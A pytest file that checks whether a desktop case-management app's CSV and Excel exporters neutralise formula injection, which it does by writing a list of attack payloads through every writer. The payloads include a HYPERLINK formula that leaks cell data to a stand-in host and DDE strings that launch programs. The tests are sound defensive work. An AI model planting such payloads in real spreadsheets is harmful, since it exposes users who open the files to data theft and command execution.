"""No CSV or Excel output runs what a user typed as a formula (OWASP "CSV injection").

Every writer is run with the payloads in names, notes and labels. ``WRITERS`` is checked
against a search of the source, so a new CSV or Excel writer cannot skip this test."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import openpyxl
import pytest

from desktop.domain.cases.records import CaseRow
from desktop.domain.mentoring.evaluation import DEFAULT_CRITERIA, FiscalYearSummary, GradeCount
from desktop.exchange import case_list
from desktop.exchange.case_export import write_cases_xlsx
from desktop.exchange.evaluation_export import write_summary_xlsx
from desktop.exchange.safe_cells import csv_field, looks_like_formula, neutralise_sheet

ROOT = Path(__file__).resolve().parents[2]

# The eight of the issue, and two more spellings of the same trick.
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")',
    "+1-1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\n=1+1",
    "=cmd|' /C notepad'!'A1'",
)


def _case_rows() -> list[CaseRow]:
    from desktop.domain.cases.categories import Agency, Need
    from desktop.domain.cases.service_levels import Health
    from desktop.domain.cases.workflow import CaseStatus
    from desktop.domain.records import AreaNames

    return [
        CaseRow(
            id=n,
            case_no=f"ลป 2570/{n:05d}",
            received_on=dt.date(2026, 11, 3),
            status=CaseStatus.REFERRED,
            person_name=payload,
            person_national_id="",
            person_phone="",
            needs=(Need.JOB,),
            area=AreaNames("500101", payload, "5001", payload, "50", "เชียงใหม่"),
            reporter_name=payload,
            agency=Agency.EMPLOYMENT,
            assigned_to=payload,
            due_on=dt.date(2026, 12, 3),
            health=Health.ON_TRACK,
        )
        for n, payload in enumerate(PAYLOADS, start=1)
    ]


def _summary() -> FiscalYearSummary:
    grades = tuple(PAYLOADS[:4])  # grade labels become header cells
    return FiscalYearSummary(
        fiscal_year=2570,
        grades=grades,
        districts=tuple(GradeCount(p, {grades[0]: 3, grades[1]: 1}) for p in PAYLOADS),
        criteria_averages=tuple(
            (PAYLOADS[i % len(PAYLOADS)], 8.0 - i / 3, c.max_score)
            for i, c in enumerate(DEFAULT_CRITERIA)
        ),
        evaluated=40,
        not_evaluated=0,
    )


def _xlsx_cases() -> bytes:
    out = io.BytesIO()
    write_cases_xlsx(_case_rows(), out)
    return out.getvalue()


def _xlsx_summary() -> bytes:
    out = io.BytesIO()
    write_summary_xlsx(_summary(), out)
    return out.getvalue()


def _csv_cases() -> str:
    out = io.BytesIO()
    write_cases_xlsx(_case_rows(), out, csv=True)
    return out.getvalue().decode("utf-8-sig")


def _xlsx_import_errors() -> bytes:
    from desktop.exchange.import_errors import write_error_workbook

    out = io.BytesIO()
    headers = ["ชื่อ-สกุล", PAYLOADS[0]]  # a header of the office's sheet, too
    write_error_workbook(out, headers, ((n, [p, p], p) for n, p in enumerate(PAYLOADS, 5)))
    return out.getvalue()


def _xlsx_report() -> bytes:
    from desktop.domain.reports import Report, ReportTable
    from desktop.exchange.report_xlsx import write_report_xlsx

    tables = tuple(ReportTable(p, (p, "จำนวน"), ((p, 3), (p, 4)), (p, 7), note=p) for p in PAYLOADS)
    out = io.BytesIO()
    write_report_xlsx(
        Report(PAYLOADS[0], PAYLOADS[1], tables),
        out,
        office=PAYLOADS[2],
        printed_on=dt.date(2026, 11, 22),
    )
    return out.getvalue()


def _csv_case_list() -> str:
    out = io.StringIO()
    case_list.write_csv([case_list.fields(r) for r in _case_rows()], out)
    return out.getvalue()


def _csv_table() -> str:
    from desktop.exchange.table_csv import write_table_csv

    out = io.StringIO()
    write_table_csv(PAYLOADS[:2], ([p, p, 3] for p in PAYLOADS), out)
    return out.getvalue()


# Module -> how to run it with the payloads. Add a new writer here.
WRITERS = {
    "desktop/exchange/list_export.py": ("xlsx", _xlsx_cases),
    "desktop/exchange/list_export.py (csv)": ("csv", _csv_cases),
    "desktop/exchange/xlsx_rows.py": ("xlsx", _xlsx_cases),  # the rows of list_export's sheets
    "desktop/exchange/evaluation_export.py": ("xlsx", _xlsx_summary),
    "desktop/exchange/case_list.py": ("csv", _csv_case_list),
    "desktop/exchange/import_errors.py": ("xlsx", _xlsx_import_errors),
    "desktop/exchange/report_xlsx.py": ("xlsx", _xlsx_report),
    "desktop/exchange/table_csv.py": ("csv", _csv_table),
}
# Modules that may mention the libraries without writing a file of their own.
NOT_WRITERS = {
    "desktop/exchange/safe_cells.py",
    "desktop/exchange/formula_cells.py",  # reads an xlsx's XML; names openpyxl in a comment
}
# Anything that writes CSV or Excel, with the helper's own writers among them.
WRITES_SPREADSHEETS = re.compile(
    r"csv\.writer|DictWriter|\.to_csv\(|\.to_excel\(|ExcelWriter|openpyxl|xlsxwriter"
    r"|SafeCsvWriter\(|neutralise_sheet\("
)


def test_every_spreadsheet_writer_is_covered():
    found = {
        path.relative_to(ROOT).as_posix()
        for folder in ("desktop", "db", "ui")
        for path in (ROOT / folder).rglob("*.py")
        if WRITES_SPREADSHEETS.search(path.read_text(encoding="utf-8"))
    }
    assert found - NOT_WRITERS == {name.split(" ")[0] for name in WRITERS}


def _assert_sheet_is_safe(data: bytes) -> int:
    book = openpyxl.load_workbook(io.BytesIO(data))
    neutralised = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if looks_like_formula(cell.value):
                    # Stored as text under Excel's own "quote prefix": shown as typed, and it
                    # stays text when the cell is edited.
                    assert cell.quotePrefix and cell.data_type == "s", (ws.title, cell.coordinate)
                    neutralised += 1
    return neutralised


def _assert_csv_is_safe(text: str) -> int:
    fields = [f for row in csv.reader(io.StringIO(text, newline="")) for f in row]
    assert not [f for f in fields if looks_like_formula(f)]
    return sum(1 for f in fields if f.startswith("'") and looks_like_formula(f[1:]))


@pytest.mark.parametrize("module", sorted(WRITERS))
def test_no_writer_lets_a_payload_through_as_a_formula(module):
    kind, write = WRITERS[module]
    output = write()
    neutralised = _assert_sheet_is_safe(output) if kind == "xlsx" else _assert_csv_is_safe(output)
    assert neutralised >= len(PAYLOADS)  # the payloads really were there, and neutralised


def test_summary_grade_labels_in_the_header_are_text_not_formulas():
    ws = openpyxl.load_workbook(io.BytesIO(_xlsx_summary())).worksheets[0]
    header = [c for c in ws[1]]
    assert [c.value for c in header[1:5]] == list(PAYLOADS[:4])  # exactly as typed
    assert all(c.data_type == "s" and c.quotePrefix for c in header[1:5])


def test_numbers_and_dates_stay_numbers_and_dates():
    assert csv_field(-5) == -5 and csv_field(-1.5) == -1.5
    assert csv_field(dt.date(2026, 1, 2)) == dt.date(2026, 1, 2)
    assert csv_field("-5") == "'-5" and csv_field("ลป 2570/00001") == "ลป 2570/00001"
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["=1+1", -5, -1.5, dt.datetime(2026, 1, 2), "-x", "ดี"])
    neutralise_sheet(ws)
    cells = list(ws[1])
    assert [c.data_type for c in cells] == ["s", "n", "n", "d", "s", "s"]
    assert [c.quotePrefix for c in cells] == [True, False, False, False, True, False]
    counts = openpyxl.load_workbook(io.BytesIO(_xlsx_summary())).worksheets[0]
    assert counts.cell(row=2, column=2).value == 3 and counts.cell(row=2, column=2).data_type == "n"
